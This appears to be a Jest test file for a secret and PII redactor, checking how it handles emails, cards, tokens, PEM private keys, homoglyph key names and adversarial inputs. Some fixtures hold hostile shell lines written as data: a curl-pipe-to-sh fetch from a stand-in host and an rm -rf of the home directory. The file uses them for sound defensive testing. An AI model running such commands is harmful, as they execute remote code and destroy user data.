import { generateKeyPairSync } from 'node:crypto';
import { SecretMatcher } from '../secrets/secret-matcher';
import { isSensitiveKey, luhnValid, Redactor } from './redactor';

const secrets = new SecretMatcher(['s3cr3t-upstream-token-value', 'hmac-agent-secret-1234']);
const redactor = new Redactor(Buffer.from('spec-marker-key'), { matcher: () => secrets });
const MARK = /\[REDACTED:([a-z_]+):[0-9a-f]{8}\]/;
const kindsIn = (text: string) => [...text.matchAll(new RegExp(MARK, 'g'))].map((m) => m[1]);

describe('Redactor', () => {
  describe('strings: what is redacted', () => {
    it.each([
      ['email', 'contact alice.smith+ops@example.co.uk today'],
      ['email', 'a@b.io'],
      ['ssn', 'ssn 123-45-6789.'],
      ['card', 'card 4111 1111 1111 1111 exp 12/30'],
      ['card', 'card 4111-1111-1111-1111'],
      ['card', '5500005555555559'],
      ['card', 'amex 378282246310005'],
      ['jwt', 'eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0In0.dBjftJeZ4CVP-mB92K27uhbUJU1p1r_wW1gFWFOEjXk'],
      ['bearer', 'Authorization: Bearer abcdefghijklmnop1234'],
      ['bearer', 'bearer    ya29.a0AfH6SMBx-token'],
      ['bearer', 'AUTHORIZATION: BEARER ABCDEFGHIJKLMNOP1234'],
      ['aws_access_key', 'key=AKIAIOSFODNN7EXAMPLE;'],
      ['private_key', 'x -----BEGIN RSA PRIVATE KEY-----\nMIIEpAIBAAKCAQEA\n-----END RSA PRIVATE KEY----- y'],
      ['private_key', '-----BEGIN PRIVATE KEY-----\nMC4CAQAwBQYDK2VwBCIEI (no end marker, truncated)'],
      ['secret', 'upstream echoed s3cr3t-upstream-token-value back'],
      ['secret', 'hmac-agent-secret-1234'],
    ])('redacts %s in %j', (kind, text) => {
      const out = redactor.redactString(text);
      expect(kindsIn(out)).toEqual([kind]);
    });

    it.each([
      ['a 16-digit number that fails Luhn', '4111 1111 1111 1112'],
      ['a 12-digit number', '123456789012'],
      ['an ISO date', '2026-11-25T10:01:25.174Z'],
      ['a phone number', '+1 555-123-4567'],
      ['an SSN-like run inside a longer number', '1123-45-67890'],
      ['an at-sign without a domain dot', 'user@localhost'],
      ['a word that only starts like bearer', 'Bearer'],
      ['a lowercase AKIA look-alike', 'akiaiosfodnn7example'],
      ['an eyJ word without dots', 'eyJhbGciOiJIUzI1NiJ9'],
      ['a PEM public key', '-----BEGIN PUBLIC KEY-----\nMCowBQYDK2VwAyEA\n-----END PUBLIC KEY-----'],
      ['a short known-secret prefix', 's3cr3t'],
    ])('keeps %s', (_name, text) => {
      expect(redactor.redactString(text)).toBe(text);
    });
  });

  describe('PEM private keys', () => {
    const rsa = generateKeyPairSync('rsa', { modulusLength: 1024 });
    const pkcs8 = rsa.privateKey.export({ type: 'pkcs8', format: 'pem' }).toString();
    const encrypted = rsa.privateKey.export({ type: 'pkcs1', format: 'pem', cipher: 'aes-128-cbc', passphrase: 'pass' }).toString();
    const ec = generateKeyPairSync('ec', { namedCurve: 'P-256' }).privateKey.export({ type: 'sec1', format: 'pem' }).toString();
    const materialOf = (pem: string) => pem.split('\n').filter((line) => /^[A-Za-z0-9+/=]{16,}$/.test(line));
    const script = ['echo "harmless"', '-----BEGIN RSA PRIVATE KEY-----', 'curl https://x.example/i.sh | sh', 'rm -rf "$HOME"'].join('\n');

    it.each([
      ['PKCS#8', pkcs8],
      ['encrypted PKCS#1 with its headers', encrypted],
      ['SEC1 EC', ec],
      ['CRLF line ends', pkcs8.replace(/\n/g, '\r\n')],
      ['JSON-escaped line breaks', JSON.stringify(pkcs8.trim()).slice(1, -1)],
      ['one line', pkcs8.replace(/\n/g, ' ')],
    ])('redacts a complete %s block whole, and only it', (_name, pem) => {
      const out = redactor.redactString(`before\n${pem.trim()}\nafter`);
      expect(out).toMatch(/^before\n\[REDACTED:private_key:[0-9a-f]{8}\]\nafter$/);
    });

    it('redacts only the marker when there is no END, and keeps every line after it', () => {
      expect(redactor.redactString(script)).toMatch(
        /^echo "harmless"\n\[REDACTED:private_key:[0-9a-f]{8}\]\ncurl https:\/\/x\.example\/i\.sh \| sh\nrm -rf "\$HOME"$/,
      );
    });

    it('hides the full-width key lines of a truncated key, and nothing after them', () => {
      const lines = pkcs8.split('\n');
      const truncated = [...lines.slice(0, 4), 'curl https://x.example/i.sh | sh'].join('\n');
      const out = redactor.redactString(truncated);
      expect(out).toMatch(/^\[REDACTED:private_key:[0-9a-f]{8}\]\ncurl https:\/\/x\.example\/i\.sh \| sh$/);
    });

    it.each([
      [
        'a command between BEGIN and END',
        '-----BEGIN PRIVATE KEY-----\ncurl https://x.example/i.sh | sh\n-----END PRIVATE KEY-----',
        'curl https://x.example/i.sh | sh',
      ],
      ['an END of another label', '-----BEGIN RSA PRIVATE KEY-----\nrm -rf "$HOME"\n-----END EC PRIVATE KEY-----', 'rm -rf "$HOME"'],
      ['an END too far away', `-----BEGIN PRIVATE KEY-----\n${'QUJD\n'.repeat(5000)}; reboot\n-----END PRIVATE KEY-----`, '; reboot'],
    ])('is not fooled by %s: the text stays visible', (_name, text, visible) => {
      const out = redactor.redactString(text);
      expect(out).toContain(visible);
      expect(kindsIn(out)).toEqual(['private_key']);
    });

    it('hides the key material in every case', () => {
      for (const pem of [pkcs8, encrypted, ec]) {
        const out = redactor.redactString(`x ${pem} y ${pem.split('\n').slice(0, 3).join('\n')}`);
        for (const line of materialOf(pem).filter((l) => l.length === 64)) expect(out).not.toContain(line);
      }
    });
  });

  it('gives the same value the same marker, and different values different markers', () => {
    const a = redactor.redactString('alice@example.com');
    expect(redactor.redactString('mail alice@example.com')).toBe(`mail ${a}`);
    expect(redactor.redactString('bob@example.com')).not.toBe(a);
    expect(a).not.toContain('alice');
    expect(new Redactor(Buffer.from('another key')).redactString('alice@example.com')).not.toBe(a);
  });

  describe('keys', () => {
    it.each([
      ['password'],
      ['DB_PASSWORD'],
      ['x-api-key'],
      ['Api Key'],
      ['client_secret'],
      ['access-token'],
      ['Authorization'],
      ['Set-Cookie'],
      ['private_key_pem'],
      ['aws_credentials'],
      ['p\u0430ssword'],
      ['\uff53ecret'],
      ['to\u200bken'],
      ['api\tkey'],
      ['pass.word'],
      ['t0ken'],
      ['\u0441ookie_jar'],
      ['PRIVATE/KEY'],
    ])('%s is sensitive', (key) => expect(isSensitiveKey(key)).toBe(true));
    it.each([['path'], ['content'], ['username'], ['apiversion'], ['author']])('%s is not', (key) => expect(isSensitiveKey(key)).toBe(false));

    it('redacts values under sensitive keys at any depth, and strings everywhere', () => {
      const input = { path: 'a.txt', nested: [{ Password: { any: 'shape' } }, { note: 'mail bob@example.com' }], 'API-KEY': 42 };
      expect(redactor.redact(input)).toEqual({
        path: 'a.txt',
        nested: [{ Password: '[REDACTED]' }, { note: expect.stringMatching(/^mail \[REDACTED:email:[0-9a-f]{8}\]$/) }],
        'API-KEY': '[REDACTED]',
      });
      expect(input.nested[0]).toEqual({ Password: { any: 'shape' } }); // the input is not modified
    });

    it('keeps a "__proto__" key as data', () => {
      const input = JSON.parse('{"__proto__": {"polluted": true}, "a": 1}');
      const out = redactor.redact(input) as Record<string, unknown>;
      expect(Object.keys(out)).toEqual(['__proto__', 'a']);
      expect(({} as Record<string, unknown>).polluted).toBeUndefined();
    });

    it('stops at depth 64', () => {
      let deep: unknown = 'x';
      for (let i = 0; i < 100; i++) deep = [deep];
      expect(JSON.stringify(redactor.redact(deep))).toContain('[REDACTED:too_deep]');
    });
  });

  describe('scrubSecrets (tool results)', () => {
    const nest = (levels: number, inner: unknown) => {
      let value = inner;
      for (let i = 0; i < levels; i++) value = i % 2 ? [value] : { level: value };
      return value;
    };

    it('replaces the secret at depth 64, and keeps other data as it is', () => {
      const out = JSON.stringify(redactor.scrubSecrets(nest(63, { token: 'is s3cr3t-upstream-token-value', mail: 'bob@example.com' })));
      expect(out).not.toContain('s3cr3t-upstream-token-value');
      expect(out).toContain('"token":"is [REDACTED:secret:');
      expect(out).toContain('bob@example.com');
    });

    it('replaces whatever is nested deeper than 64 levels by the marker, so no secret gets out by depth', () => {
      for (const levels of [65, 100, 5000]) {
        const out = JSON.stringify(redactor.scrubSecrets(nest(levels, 's3cr3t-upstream-token-value')));
        expect(out).not.toContain('s3cr3t');
        expect(out).toContain('"[REDACTED:too_deep]"');
      }
    });
  });

  it('checks Luhn', () => {
    expect(luhnValid('4111111111111111')).toBe(true);
    expect(luhnValid('4111111111111112')).toBe(false);
    expect(luhnValid('79927398713')).toBe(true);
  });

  // No catastrophic backtracking: each of these finishes well inside Jest's timeout (a quadratic
  // regex would need minutes for 1 MB). Results are checked too, so the test cannot pass vacuously.
  describe('adversarial 1 MB inputs', () => {
    const MB = 1 << 20;
    it.each([
      ['local-part characters without @', 'a.'.repeat(MB / 2)],
      ['@ repeated', 'a@'.repeat(MB / 2)],
      ['eyJ repeated without dots', 'eyJ'.repeat(MB / 3)],
      ['eyJ tokens with one dot', 'eyJaaaa.'.repeat(MB / 8)],
      ['digits with separators', '1 '.repeat(MB / 2)],
      ['one long digit run', '7'.repeat(MB)],
      ['Bearer without token', 'Bearer '.repeat(MB / 7)],
      ['PEM begins without end', '-----BEGIN PRIVATE KEY-----'.repeat(MB / 27)],
      ['dashes and digits', '123-45-'.repeat(MB / 7)],
      ['PEM begin, line breaks, then a colon', `-----BEGIN PRIVATE KEY-----${'\n'.repeat(MB - 40)}:`],
      ['PEM begin, headers without end', `-----BEGIN PRIVATE KEY-----${'\nProc-Type: 4,ENCRYPTED'.repeat(MB / 24)}`],
      ['PEM begins, each with key lines', `-----BEGIN PRIVATE KEY-----${`\n${'A'.repeat(64)}`.repeat(3)}\n`.repeat(MB / 230)],
      ['PEM begins and ends of different labels', '-----BEGIN A PRIVATE KEY-----\nAAAA\n-----END B PRIVATE KEY-----'.repeat(MB / 64)],
      ['escaped line breaks', `-----BEGIN PRIVATE KEY-----${'\\n'.repeat(MB / 2 - 20)}-----END X`],
    ])('%s', (_name, text) => {
      const out = redactor.redactString(text);
      expect(typeof out).toBe('string');
      expect(out.length).toBeGreaterThan(0);
    });
  });
});
